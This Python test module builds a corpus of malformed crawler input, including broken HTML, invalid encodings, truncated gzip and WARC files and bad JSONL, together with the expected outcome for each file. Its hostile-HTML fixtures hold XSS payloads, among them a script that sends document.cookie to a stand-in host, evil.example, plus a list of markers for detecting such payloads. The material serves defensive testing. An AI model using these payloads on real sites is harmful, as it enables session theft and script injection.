"""A corpus of bad input, written at test time: every kind of document a crawler brings back.

`write_corpus(folder)` writes the files and returns what each document should become:
coded, skipped (with a reason) or failed (with a numbered reason), or `any` where either
coding or a clear failure is right (a malformed page may or may not hold a text).
"""

from __future__ import annotations

import gzip
import io
import json
import random
from dataclasses import dataclass
from pathlib import Path

NEWS = ("Japan accused North Korea of firing a missile over the sea on Thursday. "
        "South Korea offered talks with the North at the border village next week. "
        "China urged both sides to show restraint.")
NEWS_HTML = (f"<!DOCTYPE html><html lang='en'><head><title>Talks offered</title></head><body>"
             f"<article><h1>Talks offered</h1><p>{NEWS}</p><p>{NEWS}</p></article></body></html>")
NON_ENGLISH = {
    "french.txt": "Le gouvernement a annoncé mardi que les négociations avec les voisins du nord "
                  "reprendront la semaine prochaine dans la capitale, selon un porte-parole du ministère.",
    "german.txt": "Die Regierung hat am Dienstag angekündigt, dass die Gespräche mit dem Nachbarland "
                  "in der nächsten Woche in der Hauptstadt fortgesetzt werden, sagte ein Sprecher.",
    "russian.txt": "Правительство во вторник объявило, что переговоры с соседями возобновятся на "
                   "следующей неделе в столице, сообщил представитель министерства.",
    "chinese.txt": "政府周二宣布，与邻国的谈判将于下周在首都恢复，外交部发言人表示双方都应保持克制。",
    "arabic.txt": "أعلنت الحكومة يوم الثلاثاء أن المحادثات مع الجيران ستستأنف الأسبوع المقبل في العاصمة.",
}
HOSTILE_HTML = (
    "<!DOCTYPE html><html lang='en'><head><title>Talks <script>alert('t')</script></title>"
    "<script>document.location='http://evil.example/'+document.cookie</script></head>"
    "<body onload=\"alert('body')\"><article><h1>Talks offered</h1>"
    f"<p onclick=\"alert('p')\">{NEWS}</p>"
    "<img src=x onerror=\"alert('img')\"><a href=\"javascript:alert('a')\">more</a>"
    f"<p><svg onload=alert(1)></svg>{NEWS}</p><iframe src='javascript:alert(2)'></iframe>"
    "</article></body></html>")
HOSTILE_MARKERS = ("<script", "onerror", "onload", "onclick", "javascript:", "alert(")


@dataclass(frozen=True)
class Expect:
    """What one document (named as detente names it) should become; `reason` starts its message."""

    kind: str
    document: str
    outcome: str  # coded, skipped, failed or any
    reason: str | None = None


def _warc(records: list[tuple[str, bytes]], compress: bool) -> bytes:
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    out = io.BytesIO()
    writer = WARCWriter(out, gzip=compress)
    for url, body in records:
        http = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
        writer.write_record(writer.create_warc_record(url, "response", payload=io.BytesIO(body),
                                                      http_headers=http))
    return out.getvalue()


def write_corpus(folder: Path, big_bytes: int = 50_000_000, seed: int = 9) -> list[Expect]:
    """Write the bad-input corpus into `folder`; what each document should become."""
    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    out: list[Expect] = []

    def put(name: str, data: bytes | str) -> str:
        path = folder / name
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return str(path)

    def add(kind: str, name: str, data: bytes | str, outcome: str, reason: str | None = None) -> None:
        out.append(Expect(kind, put(name, data), outcome, reason))

    # empty documents
    add("empty", "empty.txt", b"", "failed", "[E002]")
    add("empty", "blank.txt", " \n\t\n ", "failed", "[E002]")
    add("empty", "empty.html", "<html><body></body></html>", "failed", "[E002]")
    add("empty", "empty_article.html", "<html><body><p> </p><script>x=1</script></body></html>",
        "failed", "[E002]")
    # binary files with text extensions
    add("binary", "noise.txt", rng.randbytes(4096), "failed", "[E00")
    add("binary", "image.html", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rng.randbytes(2000),
        "failed", "[E007]")
    add("binary", "archive.txt", gzip.compress(NEWS.encode()), "failed", "[E00")
    add("binary", "noise.jsonl", rng.randbytes(3000).replace(b"\n", b""), "failed", "[E00")
    # a document far over the size limit
    path = folder / "huge.txt"
    with open(path, "wb") as f:
        chunk = (NEWS + "\n").encode() * 1000
        for _ in range(big_bytes // len(chunk) + 1):
            f.write(chunk)
    out.append(Expect("50 MB text", str(path), "failed", "[E006]"))
    # deeply nested and malformed HTML
    add("nested html", "nested.html",
        "<html><body>" + "<div>" * 100_000 + NEWS + "</div>" * 100_000 + "</body></html>", "any")
    add("nested html", "nested_unclosed.html", "<html><body>" + "<span><b><i>" * 30_000 + NEWS, "any")
    add("malformed html", "malformed.html", "<html><body><p>" + NEWS + "<p><<<>>></div></td><table><tr><td>"
        + NEWS + "</p></html></html><body>", "any")
    add("malformed html", "attrs.html",
        "<html><body><p class='a\" id=<b>" + NEWS + "<p =x ==y>" + NEWS + "<!-- unclosed comment", "any")
    add("malformed html", "entities.htm",
        "<html><body><p>&#0;&#xD800;&#99999999;&bogus;" + NEWS + "&#x110000;</p></body></html>", "any")
    # invalid UTF-8 and mixed encodings
    add("invalid utf-8", "latin1.txt", ("Le président a reçu la délégation. " + NEWS).encode("latin-1"),
        "failed", "[E003]")
    add("invalid utf-8", "mixed.txt",
        NEWS.encode() + "café".encode("cp1252") + " naïve ".encode() + b"\xff\xfe" + NEWS.encode(),
        "failed", "[E003]")
    add("invalid utf-8", "utf16.txt", NEWS.encode("utf-16"), "failed", "[E00")
    add("invalid utf-8", "overlong.html",
        b"<html><body><p>\xc0\xaf\xed\xa0\x80" + NEWS.encode() + b"</p></body></html>", "failed", "[E003]")
    # truncated gzip and WARC records
    lines = "".join(json.dumps({"id": f"gz-{i}", "text": NEWS}) + "\n" for i in range(200)).encode()
    packed = gzip.compress(lines)
    add("truncated gzip", "cut.jsonl.gz", packed[: len(packed) // 2], "failed", "[E001]")
    add("truncated gzip", "cut_text.txt.gz", gzip.compress(NEWS.encode() * 50)[:40], "failed", "[E001]")
    for compress, name in ((True, "cut.warc.gz"), (False, "cut.warc")):
        host = f"https://{name.replace('.', '-')}.example"
        warc = _warc([(f"{host}/{i}", NEWS_HTML.encode()) for i in range(3)], compress=compress)
        put(name, warc[: int(len(warc) * 0.6)])
        out.append(Expect("truncated warc", f"{host}/0", "coded"))
        out.append(Expect("truncated warc", f"{host}/1", "failed", "[E405]"))
    add("truncated warc", "garbage.warc", b"WARC/1.0\r\nWARC-Type: resp", "failed", "[E406]")
    # JSONL with broken lines
    broken = [
        json.dumps({"id": "ok-1", "text": NEWS}),
        '{"id": "cut", "text": "Japan accused',
        "[1, 2, 3]",
        json.dumps({"id": "no-text"}),
        json.dumps({"text": 42}),
        json.dumps({"text": NEWS, "url": ["not", "a", "string"]}),
        '{"id": "surrogate", "text": "Japan accused North Korea \\ud800 of lying on Monday."}',
        json.dumps({"id": "nul", "text": "Japan accused\u0000 North Korea of lying on Monday."}),
        "",
        "not json at all",
        json.dumps({"id": "ok-2", "text": NEWS, "published": "not a date"}),
    ]
    path_s = put("broken.jsonl", "\n".join(broken) + "\n")
    outcomes = ["coded", "failed", "failed", "failed", "failed", "failed", "coded", "coded", None,
                "failed", "coded"]
    ids = {1: "ok-1", 7: "surrogate", 8: "nul", 11: "ok-2", 4: "no-text", 2: None}
    for n, outcome in enumerate(outcomes, 1):
        if outcome is not None:
            name = ids.get(n) or f"{path_s}:{n}"
            out.append(Expect("broken jsonl", name, outcome, "[E0" if outcome == "failed" else None))
    # non-English text
    for name, text in NON_ENGLISH.items():
        out.append(Expect("non-english", put(name, text), "skipped", "[E202]"))
    # one sentence of 100,000 tokens
    words = ("Japan", "accused", "Korea", "and", "the", "talks", "with", "China")
    out.append(Expect("100k-token sentence", put("long_sentence.txt", NEWS + " " + " ".join(
        words[i % len(words)] for i in range(100_000)) + ". " + NEWS), "coded"))
    # HTML with script and event-handler attributes
    out.append(Expect("hostile html", put("hostile.html", HOSTILE_HTML), "coded"))
    out.append(Expect("hostile html", put("hostile.jsonl", json.dumps(
        {"id": "hostile-json", "title": "<script>alert(1)</script>", "text": "<img src=x onerror=alert(1)> "
         + NEWS}) + "\n"), "coded"))
    return out
